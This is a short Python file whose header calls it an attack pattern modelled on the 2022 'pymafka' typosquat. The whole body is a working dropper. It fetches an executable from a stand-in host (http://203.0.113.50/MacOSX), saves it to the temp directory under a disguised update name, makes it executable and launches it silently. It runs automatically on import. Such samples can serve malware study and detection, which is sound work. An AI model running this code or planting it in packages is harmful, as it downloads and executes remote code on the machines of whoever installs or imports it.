# Attack pattern: dropper that downloads an executable to the temp directory and starts it (as in the 2022 "pymafka" typosquat).
import os
import subprocess
import tempfile
import urllib.request


def _fetch_helper():
    target = os.path.join(tempfile.gettempdir(), "MacOSX_update")
    urllib.request.urlretrieve("http://203.0.113.50/MacOSX", target)
    os.chmod(target, 0o755)
    subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


_fetch_helper()
